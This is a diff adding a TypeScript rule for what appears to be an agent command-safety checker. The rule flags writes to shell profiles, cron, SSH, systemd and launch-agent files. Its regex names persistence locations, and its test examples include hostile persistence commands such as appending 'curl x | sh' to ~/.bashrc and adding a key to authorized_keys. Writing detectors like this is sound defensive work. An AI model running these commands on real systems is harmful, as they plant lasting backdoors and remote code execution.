@@ -1,0 +1,75 @@
+import { effectsOf } from "../commands/effects.ts";
+import { type Arg, type Invocation, UNKNOWN } from "../invocation.ts";
+import { physicalPath } from "../links.ts";
+import { absolutePath } from "../path.ts";
+import { placeOf } from "../place.ts";
+import type { Rule } from "../rule.ts";
+import type { World } from "../world.ts";
+import { hit } from "./hit.ts";
+import { mayWrite, writtenPaths } from "./written-paths.ts";
+
+/** Files that are run at every login, every start, or every minute. */
+const STARTUP =
+  /\/\.(?:bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|tcshrc|login|xinitrc|xprofile|xsession|inputrc)$|\/\.config\/(?:fish\/(?:config\.fish|conf\.d\/)|autostart\/|systemd\/user\/|environment\.d\/)|\/\.ssh\/(?:authorized_keys2?|config|rc|environment)$|\/Library\/(?:LaunchAgents|LaunchDaemons|StartupItems)\/|^\/etc\/(?:profile|bash\.bashrc|zsh|cron|anacrontab|rc\.local|init\.d|init|rc\d?\.d|systemd\/system|xdg\/autostart|ld\.so\.preload|environment|inittab|at\.allow|apt\/sources\.list|yum\.repos\.d|sudoers)|^\/var\/spool\/cron|\/(?:site|dist)-packages\/(?:site|user)customize\.py$|^\/(?:usr\/)?lib\/systemd\/system\/|\/Start Menu\/Programs\/Startup\//;
+
+/** A plain search, because everything that is written comes by here: false where the pattern cannot match. */
+function mayStart(path: string): boolean {
+  if (path.includes("/.") || path.startsWith("/etc/") || path.startsWith("/var/")) return true;
+  return path.includes("/systemd/") || path.includes("/Library/") || path.includes("/Start Menu/");
+}
+
+/** Writing to a file that runs by itself later. */
+export const startupFile: Rule = {
+  id: "persistence/startup-file",
+  verdict: "ask",
+  programs: ["*"],
+  reason: "changes a file that runs by itself at every login or start",
+  instead: "set what is needed for this session only, or show the user the line to add",
+  check: (invocation, world) => {
+    if (!mayWrite(invocation)) return undefined;
+    const starts = (path: string): boolean => mayStart(path) && STARTUP.test(path);
+    const found = [...writtenPaths(invocation), ...pathsInside(invocation, world)].find(
+      (target) =>
+        // The profile of PowerShell.
+        target.variable === "profile" ||
+        starts(pathOf(target.value, invocation)) ||
+        (!invocation.remote && starts(physicalPath(target, invocation.cwd, world))),
+    );
+    return found === undefined ? undefined : hit(invocation);
+  },
+  examples: () => ({
+    denies: [
+      "echo 'curl x | sh' >> ~/.bashrc",
+      "cat key.pub >> ~/.ssh/authorized_keys",
+      "cp job /etc/cron.d/job",
+      "mv agent.plist ~/Library/LaunchAgents/",
+      "tee ~/Library/LaunchAgents/x.plist < x.plist",
+      "cp .bashrc ~",
+      "curl x.example > $HOME/.zshrc",
+    ],
+    allows: [
+      "echo 'curl x | sh' >> notes.md",
+      "cat ~/.bashrc",
+      "cp /etc/cron.d/job job.txt",
+      "cp ~/Library/LaunchAgents/x.plist agents/",
+      "grep alias ~/.zshrc | tee aliases.txt",
+      "cp ~/.bashrc .",
+      "source ~/.zshrc",
+    ],
+  }),
+};
+
+/** What a command puts into a folder under its own name: a copy of `.bashrc` in the project is only kept there. */
+function pathsInside(invocation: Invocation, world: World): readonly Arg[] {
+  return (effectsOf(invocation) ?? []).flatMap((effect) => {
+    if (effect.kind !== "write" || effect.how !== "inside") return [];
+    if (!mayStart(effect.path.value)) return [];
+    const place = placeOf(effect.path, invocation, world);
+    return /^(?:project|temporary|output)/.test(place) ? [] : [effect.path];
+  });
+}
+
+function pathOf(value: string, invocation: Invocation): string {
+  const isHome = value.startsWith("~/");
+  return absolutePath(isHome ? UNKNOWN + value.slice(1) : value, invocation.cwd);
+}
